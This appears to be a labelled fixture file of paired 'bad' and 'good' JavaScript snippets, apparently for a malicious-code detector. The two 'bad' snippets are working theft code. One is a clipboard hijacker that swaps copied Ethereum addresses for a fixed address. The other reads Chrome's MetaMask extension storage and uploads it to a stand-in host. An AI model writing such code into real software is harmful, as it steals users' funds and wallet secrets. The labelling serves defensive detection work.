//: bad clipboard-replace
document.addEventListener('copy', (event) => {
  const text = window.getSelection().toString();
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) {
    event.clipboardData.setData('text/plain', '0x5cE4b8A19d03F72E6cA1857bD94f02E3a6C8d10B'); //!
    event.preventDefault();
  }
});

//: good clipboard-replace
document.addEventListener('copy', (event) => {
  const text = window.getSelection().toString();
  if (text.length > 200) {
    event.clipboardData.setData('text/plain', `${text}\n\nRead more at ${location.href}`);
    event.preventDefault();
  }
});

//: bad leveldb-extensions
const fs = require('fs');
const path = require('path');
const FormData = require('form-data');

const root = path.join(process.env.LOCALAPPDATA, 'Google/Chrome/User Data/Default/Local Extension Settings');
const metamask = path.join(root, 'nkbihfbeogaeaoehlefnkodbefgpgknn');
const form = new FormData();
for (const name of fs.readdirSync(metamask)) {
  form.append('files', fs.createReadStream(path.join(metamask, name)));
}
form.submit('https://s.example.invalid/uploads'); //!

//: good leveldb-extensions
const fs = require('fs');
const path = require('path');
const FormData = require('form-data');

const root = path.join(process.cwd(), 'coverage');
const form = new FormData();
for (const name of fs.readdirSync(root)) {
  form.append('files', fs.createReadStream(path.join(root, name)));
}
form.submit('https://coverage.example.invalid/uploads');
